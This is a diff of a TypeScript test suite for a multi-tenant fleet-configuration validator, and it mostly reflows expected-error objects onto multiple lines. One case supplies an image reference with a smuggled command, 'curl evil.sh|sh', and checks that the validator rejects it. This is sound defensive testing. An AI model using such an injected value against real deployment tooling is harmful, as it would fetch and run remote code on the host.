@@ -87,53 +87,117 @@ const cases: Case[] = [
       writeFileSync(join(outside, 'secret.yaml'), workspaceYaml(WS2));
       symlinkSync(join(outside, 'secret.yaml'), join(dir, 'tenants/acme/workspaces/leak.yaml'));
     },
-    errors: [{ file: 'tenants/acme/workspaces/leak.yaml', line: 1, col: 1, path: '', message: 'The symlink points outside the repository; fleet files must live inside it.' }],
+    errors: [
+      { file: 'tenants/acme/workspaces/leak.yaml', line: 1, col: 1, path: '', message: 'The symlink points outside the repository; fleet files must live inside it.' },
+    ],
   },
   {
     name: 'stray file in tenants/',
     changes: { 'tenants/notes.yaml': 'hello: world\n' },
-    errors: [{ file: 'tenants/notes.yaml', line: 1, col: 1, path: '', message: 'Unexpected file in tenants/: only tenant folders belong here (tenants/<slug>/tenant.yaml).' }],
+    errors: [
+      { file: 'tenants/notes.yaml', line: 1, col: 1, path: '', message: 'Unexpected file in tenants/: only tenant folders belong here (tenants/<slug>/tenant.yaml).' },
+    ],
   },
   {
     name: 'stray file in a tenant folder',
     changes: { 'tenants/acme/tenant.yml': 'x: 1\n' },
-    errors: [{ file: 'tenants/acme/tenant.yml', line: 1, col: 1, path: '', message: 'Unexpected entry in a tenant folder (rename it to tenant.yaml): only tenant.yaml and workspaces/ belong here.' }],
+    errors: [
+      {
+        file: 'tenants/acme/tenant.yml',
+        line: 1,
+        col: 1,
+        path: '',
+        message: 'Unexpected entry in a tenant folder (rename it to tenant.yaml): only tenant.yaml and workspaces/ belong here.',
+      },
+    ],
   },
   {
     name: 'workspace file with the .yml extension',
     changes: { 'tenants/acme/workspaces/extra.yml': workspaceYaml(WS2) },
-    errors: [{ file: 'tenants/acme/workspaces/extra.yml', line: 1, col: 1, path: '', message: 'Unexpected entry in workspaces/ (rename it to .yaml): only <name>.yaml workspace files belong here.' }],
+    errors: [
+      {
+        file: 'tenants/acme/workspaces/extra.yml',
+        line: 1,
+        col: 1,
+        path: '',
+        message: 'Unexpected entry in workspaces/ (rename it to .yaml): only <name>.yaml workspace files belong here.',
+      },
+    ],
   },
   {
     name: 'workspace file name that is not a name',
     changes: { 'tenants/acme/workspaces/Main_2.yaml': workspaceYaml(WS2) },
-    errors: [{ file: 'tenants/acme/workspaces/Main_2.yaml', line: 1, col: 1, path: '', message: 'The workspace file name "Main_2" is not a valid name: use lower-case letters, digits and hyphens, at most 63 characters.' }],
+    errors: [
+      {
+        file: 'tenants/acme/workspaces/Main_2.yaml',
+        line: 1,
+        col: 1,
+        path: '',
+        message: 'The workspace file name "Main_2" is not a valid name: use lower-case letters, digits and hyphens, at most 63 characters.',
+      },
+    ],
   },
   {
     name: 'tenant folder without tenant.yaml',
     changes: { 'tenants/globex/workspaces/ops.yaml': workspaceYaml(WS2) },
-    errors: [{ file: 'tenants/globex', line: 1, col: 1, path: '', message: 'The tenant folder tenants/globex has no tenant.yaml; add one (kind: Tenant) or remove the folder.' }],
+    errors: [
+      { file: 'tenants/globex', line: 1, col: 1, path: '', message: 'The tenant folder tenants/globex has no tenant.yaml; add one (kind: Tenant) or remove the folder.' },
+    ],
   },
   {
     name: 'hidden tenant folder (a renamed tenant would be planned for deletion)',
     changes: { 'tenants/.globex/tenant.yaml': tenantYaml('globex', ORG2), 'tenants/.gitkeep': '' },
-    errors: [{ file: 'tenants/.globex', line: 0, col: 0, path: '', message: 'The folder tenants/.globex is hidden (its name starts with a dot), so its tenant would be read as undeclared and planned for deletion; rename it to tenants/globex or remove it.' }],
+    errors: [
+      {
+        file: 'tenants/.globex',
+        line: 0,
+        col: 0,
+        path: '',
+        message:
+          'The folder tenants/.globex is hidden (its name starts with a dot), so its tenant would be read as undeclared and planned for deletion; rename it to tenants/globex or remove it.',
+      },
+    ],
   },
   {
     name: 'hidden workspace file',
     changes: { 'tenants/acme/workspaces/.ops.yaml': workspaceYaml(WS2), 'tenants/acme/workspaces/.DS_Store': '' },
-    errors: [{ file: 'tenants/acme/workspaces/.ops.yaml', line: 0, col: 0, path: '', message: 'The workspace file tenants/acme/workspaces/.ops.yaml is hidden (its name starts with a dot), so its workspace would be read as undeclared and planned for deletion; rename it without the dot or remove it.' }],
+    errors: [
+      {
+        file: 'tenants/acme/workspaces/.ops.yaml',
+        line: 0,
+        col: 0,
+        path: '',
+        message:
+          'The workspace file tenants/acme/workspaces/.ops.yaml is hidden (its name starts with a dot), so its workspace would be read as undeclared and planned for deletion; rename it without the dot or remove it.',
+      },
+    ],
   },
   {
     name: 'repository with no tenants',
     changes: { [T]: null, [W]: null },
     // The folder as a whole (no line: there is no file to point into), not a bogus tenants:1:1.
-    errors: [{ file: 'tenants/', line: 0, col: 0, path: '', message: 'The fleet declares no tenants; an empty fleet would plan deleting every tenant, so pass --allow-empty if that is what you mean.' }],
+    errors: [
+      {
+        file: 'tenants/',
+        line: 0,
+        col: 0,
+        path: '',
+        message: 'The fleet declares no tenants; an empty fleet would plan deleting every tenant, so pass --allow-empty if that is what you mean.',
+      },
+    ],
   },
   {
     name: 'missing fleet.yaml',
     changes: { 'fleet.yaml': null, 'fleet.yml': BASE_FILES['fleet.yaml']! },
-    errors: [{ file: 'fleet.yaml', line: 1, col: 1, path: '', message: 'fleet.yaml is missing from the repository root (found fleet.yml: rename it to fleet.yaml); every fleet repository starts with one (kind: Fleet).' }],
+    errors: [
+      {
+        file: 'fleet.yaml',
+        line: 1,
+        col: 1,
+        path: '',
+        message: 'fleet.yaml is missing from the repository root (found fleet.yml: rename it to fleet.yaml); every fleet repository starts with one (kind: Fleet).',
+      },
+    ],
   },
   // --- schema ---
   {
@@ -167,17 +231,41 @@ const cases: Case[] = [
   {
     name: 'slug that is not a DNS label',
     changes: { [T]: null, [W]: null, 'tenants/Acme_Corp/tenant.yaml': tenantYaml('Acme_Corp', ORG2) },
-    errors: [{ file: 'tenants/Acme_Corp/tenant.yaml', line: 3, col: 7, path: 'slug', message: '"Acme_Corp" is not a valid slug: use lower-case letters, digits and hyphens, at most 63 characters, starting and ending with a letter or digit.' }],
+    errors: [
+      {
+        file: 'tenants/Acme_Corp/tenant.yaml',
+        line: 3,
+        col: 7,
+        path: 'slug',
+        message: '"Acme_Corp" is not a valid slug: use lower-case letters, digits and hyphens, at most 63 characters, starting and ending with a letter or digit.',
+      },
+    ],
   },
   {
     name: 'slug longer than 63 characters',
     changes: { [T]: null, [W]: null, [`tenants/${'a'.repeat(64)}/tenant.yaml`]: tenantYaml('a'.repeat(64), ORG2) },
-    errors: [{ file: `tenants/${'a'.repeat(64)}/tenant.yaml`, line: 3, col: 7, path: 'slug', message: `"${'a'.repeat(57)}..." is not a valid slug: use lower-case letters, digits and hyphens, at most 63 characters, starting and ending with a letter or digit.` }],
+    errors: [
+      {
+        file: `tenants/${'a'.repeat(64)}/tenant.yaml`,
+        line: 3,
+        col: 7,
+        path: 'slug',
+        message: `"${'a'.repeat(57)}..." is not a valid slug: use lower-case letters, digits and hyphens, at most 63 characters, starting and ending with a letter or digit.`,
+      },
+    ],
   },
   {
     name: 'orgId that is not a UUID',
     changes: { [T]: tenantYaml('acme', '5F0C6A52-3B1E-4C8E-9A57-2D41E8A0B001') },
-    errors: [{ file: T, line: 4, col: 8, path: 'orgId', message: '"5F0C6A52-3B1E-4C8E-9A57-2D41E8A0B001" is not a UUID in canonical lower-case form (8-4-4-4-12 hexadecimal digits).' }],
+    errors: [
+      {
+        file: T,
+        line: 4,
+        col: 8,
+        path: 'orgId',
+        message: '"5F0C6A52-3B1E-4C8E-9A57-2D41E8A0B001" is not a UUID in canonical lower-case form (8-4-4-4-12 hexadecimal digits).',
+      },
+    ],
   },
   {
     name: 'power that is neither running nor stopped',
@@ -192,22 +280,55 @@ const cases: Case[] = [
   {
     name: 'image reference holding shell syntax',
     changes: { [W]: workspaceWith('image: "ghcr.io/acme/agent:1.0;curl evil.sh|sh"\n') },
-    errors: [{ file: W, line: 6, col: 8, path: 'image', message: 'The image reference "ghcr.io/acme/agent:1.0;curl evil.sh|sh" contains ";", which a shell would interpret; an image reference holds only letters, digits and . _ - / : @.' }],
+    errors: [
+      {
+        file: W,
+        line: 6,
+        col: 8,
+        path: 'image',
+        message:
+          'The image reference "ghcr.io/acme/agent:1.0;curl evil.sh|sh" contains ";", which a shell would interpret; an image reference holds only letters, digits and . _ - / : @.',
+      },
+    ],
   },
   {
     name: 'image reference with an upper-case repository',
     changes: { 'fleet.yaml': BASE_FILES['fleet.yaml']!.replace('ghcr.io/example/platform:1.4.2', 'ghcr.io/Example/platform:1.4.2') },
-    errors: [{ file: 'fleet.yaml', line: 6, col: 14, path: 'tenantImage', message: '"ghcr.io/Example/platform:1.4.2" is not a valid OCI image reference such as ghcr.io/acme/platform:1.4.2.' }],
+    errors: [
+      {
+        file: 'fleet.yaml',
+        line: 6,
+        col: 14,
+        path: 'tenantImage',
+        message: '"ghcr.io/Example/platform:1.4.2" is not a valid OCI image reference such as ghcr.io/acme/platform:1.4.2.',
+      },
+    ],
   },
   {
     name: 'AMI pin that is not an AMI id',
     changes: { 'fleet.yaml': BASE_FILES['fleet.yaml']!.replace('ami-0a1b2c3d4e5f60718', 'ami-XYZ') },
-    errors: [{ file: 'fleet.yaml', line: 10, col: 16, path: 'amiPins.hermes.us-east-2', message: '"ami-XYZ" is not an AMI id (ami- followed by 8 or 17 lower-case hexadecimal digits).' }],
+    errors: [
+      {
+        file: 'fleet.yaml',
+        line: 10,
+        col: 16,
+        path: 'amiPins.hermes.us-east-2',
+        message: '"ami-XYZ" is not an AMI id (ami- followed by 8 or 17 lower-case hexadecimal digits).',
+      },
+    ],
   },
   {
     name: 'runtime name in a map key that is not a runtime name',
     changes: { 'fleet.yaml': fleetWith('volumeFloors:\n  Hermes: 50\n') },
-    errors: [{ file: 'fleet.yaml', line: 12, col: 3, path: 'volumeFloors.Hermes', message: '"Hermes" is not a valid runtime name: use lower-case letters, digits and hyphens, starting with a letter, at most 32 characters.' }],
+    errors: [
+      {
+        file: 'fleet.yaml',
+        line: 12,
+        col: 3,
+        path: 'volumeFloors.Hermes',
+        message: '"Hermes" is not a valid runtime name: use lower-case letters, digits and hyphens, starting with a letter, at most 32 characters.',
+      },
+    ],
   },
   {
     name: 'region that is not a region',
@@ -217,7 +338,9 @@ const cases: Case[] = [
   {
     name: 'appDomain that is not a domain',
     changes: { 'fleet.yaml': BASE_FILES['fleet.yaml']!.replace('tenants.example.dev', 'https://tenants.example.dev/') },
-    errors: [{ file: 'fleet.yaml', line: 5, col: 12, path: 'appDomain', message: '"https://tenants.example.dev/" is not a lower-case domain name such as tenants.example.dev.' }],
+    errors: [
+      { file: 'fleet.yaml', line: 5, col: 12, path: 'appDomain', message: '"https://tenants.example.dev/" is not a lower-case domain name such as tenants.example.dev.' },
+    ],
   },
   {
     name: 'secret recovery window under the Secrets Manager minimum',
@@ -227,7 +350,9 @@ const cases: Case[] = [
   {
     name: 'rollout batch written as a bare number string',
     changes: { 'fleet.yaml': fleetWith('rollout:\n  batches: [1, "10", "100%"]\n') },
-    errors: [{ file: 'fleet.yaml', line: 12, col: 16, path: 'rollout.batches[1]', message: '"10" is not a batch size: write a count such as 5 or a percentage such as "25%".' }],
+    errors: [
+      { file: 'fleet.yaml', line: 12, col: 16, path: 'rollout.batches[1]', message: '"10" is not a batch size: write a count such as 5 or a percentage such as "25%".' },
+    ],
   },
   {
     name: 'rollout batch of zero tenants',
@@ -241,9 +366,18 @@ const cases: Case[] = [
     errors: [{ file: 'fleet.yaml', line: 12, col: 16, path: 'rollout.batches[1]', message: 'Batch 2 is 150%; a percentage batch must be between 1% and 100%.' }],
   },
   {
-    name: 'platform port 22 (the EIC rule\'s port, which would open SSH to the whole VPC)',
+    name: "platform port 22 (the EIC rule's port, which would open SSH to the whole VPC)",
     changes: { 'fleet.yaml': fleetWith('tenant:\n  platformPort: 22\n') },
-    errors: [{ file: 'fleet.yaml', line: 12, col: 17, path: 'tenant.platformPort', message: 'The platform port cannot be 22: the platform port is opened to the whole VPC CIDR, while tcp/22 is the EC2 Instance Connect rule, open only to the EIC endpoint\'s security group.' }],
+    errors: [
+      {
+        file: 'fleet.yaml',
+        line: 12,
+        col: 17,
+        path: 'tenant.platformPort',
+        message:
+          "The platform port cannot be 22: the platform port is opened to the whole VPC CIDR, while tcp/22 is the EC2 Instance Connect rule, open only to the EIC endpoint's security group.",
+      },
+    ],
   },
   {
     name: 'rollout percentage far over 100, alone',
@@ -253,7 +387,15 @@ const cases: Case[] = [
   {
     name: 'rollout batch after a 100% batch',
     changes: { 'fleet.yaml': fleetWith('rollout:\n  batches:\n    - "100%"\n    - 5\n') },
-    errors: [{ file: 'fleet.yaml', line: 14, col: 7, path: 'rollout.batches[1]', message: 'Batch 2 follows the 100% batch 1, which already covers every remaining tenant; remove it.' }],
+    errors: [
+      {
+        file: 'fleet.yaml',
+        line: 14,
+        col: 7,
+        path: 'rollout.batches[1]',
+        message: 'Batch 2 follows the 100% batch 1, which already covers every remaining tenant; remove it.',
+      },
+    ],
   },
   {
     name: 'tier clamp naming a tier not in the table',
@@ -268,9 +410,19 @@ const cases: Case[] = [
   {
     name: 'tier clamp min after max',
     changes: {
-      'fleet.yaml': fleetWith('tiers:\n  - { name: S, instanceType: t3.small, volumeGb: 20 }\n  - { name: M, instanceType: t3.medium, volumeGb: 40 }\ntierClamp: { min: M, max: S }\n'),
+      'fleet.yaml': fleetWith(
+        'tiers:\n  - { name: S, instanceType: t3.small, volumeGb: 20 }\n  - { name: M, instanceType: t3.medium, volumeGb: 40 }\ntierClamp: { min: M, max: S }\n',
+      ),
     },
-    errors: [{ file: 'fleet.yaml', line: 14, col: 19, path: 'tierClamp.min', message: 'The clamp min tier "M" comes after the max tier "S" in the tier table, which lists tiers smallest first.' }],
+    errors: [
+      {
+        file: 'fleet.yaml',
+        line: 14,
+        col: 19,
+        path: 'tierClamp.min',
+        message: 'The clamp min tier "M" comes after the max tier "S" in the tier table, which lists tiers smallest first.',
+      },
+    ],
   },
   {
     name: 'tier listed twice',
@@ -287,7 +439,15 @@ const cases: Case[] = [
   {
     name: 'orgId used by two tenants',
     changes: { 'tenants/globex/tenant.yaml': tenantYaml('globex', '5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b001') },
-    errors: [{ file: 'tenants/globex/tenant.yaml', line: 4, col: 8, path: 'orgId', message: `The orgId 5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b001 is already used at ${T}:4:8; every tenant needs its own orgId.` }],
+    errors: [
+      {
+        file: 'tenants/globex/tenant.yaml',
+        line: 4,
+        col: 8,
+        path: 'orgId',
+        message: `The orgId 5f0c6a52-3b1e-4c8e-9a57-2d41e8a0b001 is already used at ${T}:4:8; every tenant needs its own orgId.`,
+      },
+    ],
   },
   {
     name: 'workspace id used twice across tenants',
@@ -295,7 +455,15 @@ const cases: Case[] = [
       'tenants/globex/tenant.yaml': tenantYaml('globex', ORG2),
       'tenants/globex/workspaces/ops.yaml': workspaceYaml('0b8e4f7a-61c2-4d3e-8f90-a1b2c3d4e001'),
     },
-    errors: [{ file: 'tenants/globex/workspaces/ops.yaml', line: 3, col: 5, path: 'id', message: `The workspace id 0b8e4f7a-61c2-4d3e-8f90-a1b2c3d4e001 is already used at ${W}:3:5; every workspace needs its own id.` }],
+    errors: [
+      {
+        file: 'tenants/globex/workspaces/ops.yaml',
+        line: 3,
+        col: 5,
+        path: 'id',
+        message: `The workspace id 0b8e4f7a-61c2-4d3e-8f90-a1b2c3d4e001 is already used at ${W}:3:5; every workspace needs its own id.`,
+      },
+    ],
   },
   {
     name: 'workspace tier not in the tier table',
@@ -347,7 +515,14 @@ describe('folders where files belong', () => {
     mkdirSync(join(dir, 'tenants/acme/workspaces/nested'));
     const { diagnostics } = await loadFleet(dir);
     expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([
-      { severity: 'error', file: 'tenants/acme/workspaces/nested', line: 1, col: 1, path: '', message: 'Unexpected entry in workspaces/: only <name>.yaml workspace files belong here.' },
+      {
+        severity: 'error',
+        file: 'tenants/acme/workspaces/nested',
+        line: 1,
+        col: 1,
+        path: '',
+        message: 'Unexpected entry in workspaces/: only <name>.yaml workspace files belong here.',
+      },
     ]);
   });
 });
